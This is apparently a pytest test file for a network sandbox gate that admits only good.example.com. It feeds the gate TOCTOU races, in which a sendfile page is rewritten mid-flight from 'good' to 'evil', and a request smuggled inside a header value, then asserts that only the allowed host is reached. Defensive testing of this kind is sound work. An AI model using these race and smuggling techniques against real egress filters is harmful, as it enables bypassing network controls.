# SPDX-License-Identifier: Apache-2.0
"""Octets that change after they were sent. What sendfile(2) puts into a connection are pages of the sender's
file, and they are still its own when they lie in the gate's socket: the gate looks at one name, and another
one would leave. Nobody has to be root for it."""

import pytest

from program import wait_until

# Every engine in a full run; a machine's frames are copied, so there it is tried in vain.
pytestmark = pytest.mark.engines(usual=["bwrap"])
GOOD, BAD = "good.example.com", "evil.example.com"

SHARED = """
import mmap, ssl
GOOD, BAD = b"good", b"evil"

class Shared:
    "A page that is sent, and can be written to."
    def __init__(self, octets):
        self.fd = os.memfd_create("page")
        os.ftruncate(self.fd, 4096)
        self.page = mmap.mmap(self.fd, 4096)
        self.n = len(octets)
        self.page[:self.n] = octets
    def send(self, s, start=0, end=None):
        os.sendfile(s.fileno(), self.fd, start, (end or self.n) - start)
    def turn(self, at):
        "Until it is killed: one name, then the other."
        child = os.fork()
        while child == 0:
            self.page[at:at + 4] = BAD
            self.page[at:at + 4] = GOOD
        return child

def try_once(shared, first):
    "Whether it was admitted."
    with dial(*sys.argv[1:3], 10) as s:
        s.sendall(first)
        first and s.recv(4096)
        shared.send(s)
        return s.recv(4096).startswith(b"HTTP/1.1 200")

def try_often(octets, first=b""):
    shared, tries, admitted, end = Shared(octets), 0, 0, time.monotonic() + 2
    child = shared.turn(octets.index(GOOD + b".example"))
    try:
        while tries < 3 or not admitted or time.monotonic() < end:
            try:
                admitted += try_once(shared, first)
                tries += 1
            except ConnectionRefusedError:  # so many flows a second are not for anybody
                time.sleep(0.1)
            except OSError:
                tries += 1
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)
    report(tries=tries, admitted=admitted)
"""


class Recorder:
    """A server that keeps what came on each connection, and answers to whatever it is as HTTP does."""

    def __init__(self, world, port):
        self.address, self.heard = world.address(), []
        for name in GOOD, BAD:
            world.name(name, self.address)
        world.tcp(self.address, port, self._serve)

    async def _serve(self, reader, writer):
        heard = bytearray()
        self.heard.append(heard)
        while part := await reader.read(65536):
            heard += part
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        writer.close()

    def names(self):
        return {name for heard in self.heard for name in (GOOD, BAD) if name.encode() in heard}


@pytest.fixture
def attacked(world, sandgate):
    def attack(port, code):
        recorder, box = Recorder(world, port), sandgate.box("--only", GOOD)
        assert box.run(f"getent hosts {GOOD}").ok
        done = box.python(SHARED + code, recorder.address, port)
        assert done.ok, done
        wait_until(recorder.names, what="what was admitted")
        return recorder, done
    return attack


@pytest.mark.parametrize("first", ["", "GET / HTTP/1.1\r\nHost: good.example.com\r\n\r\n"], ids=["first", "kept"])
def test_a_request_that_changes_when_it_was_judged(attacked, first):
    request = b"GET / HTTP/1.1\r\nHost: good.example.com\r\n\r\n"
    recorder, done = attacked(80, f"try_often({request!r}, {first.encode()!r})")
    assert done.json["tries"] > 2 and done.json["admitted"] > 0, done
    assert recorder.names() == {GOOD}


def test_a_hello_that_changes_when_it_was_judged(attacked):
    recorder, done = attacked(443, """
out = ssl.MemoryBIO()
try:
    ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname="good.example.com").do_handshake()
except ssl.SSLWantReadError:
    pass
try_often(out.read())
""")
    assert done.json["tries"] > 2 and done.json["admitted"] > 0, done
    assert recorder.names() == {GOOD}


def test_the_beginning_of_a_request_that_changes_before_its_end(attacked):
    """Its lines were looked at when they came; by the end there is another request among them."""
    recorder, done = attacked(80, """
hidden = b"\\n\\nGET /hidden HTTP/1.1\\nHost: evil.example.com\\n\\n"
def request(middle):
    return b"GET / HTTP/1.1\\r\\nHost: good.example.com\\r\\nX: " + middle + b"\\r\\n"
shared, endings = Shared(request(b"x" * len(hidden)) + b"\\r\\n"), []
for middle in b"x" * len(hidden), hidden:
    with dial(*sys.argv[1:3], 4) as s:
        shared.page[:shared.n - 2] = request(b"x" * len(hidden))
        shared.send(s, 0, shared.n - 2)
        time.sleep(0.2)
        shared.page[:shared.n - 2] = request(middle)
        shared.send(s, shared.n - 2)
        try:
            endings.append(s.recv(4096)[:12].decode())
        except OSError as problem:
            endings.append(errname(problem))
report(endings=endings)
""")
    assert done.json["endings"] == ["HTTP/1.1 200", "HTTP/1.1 403"], done
    assert recorder.names() == {GOOD}
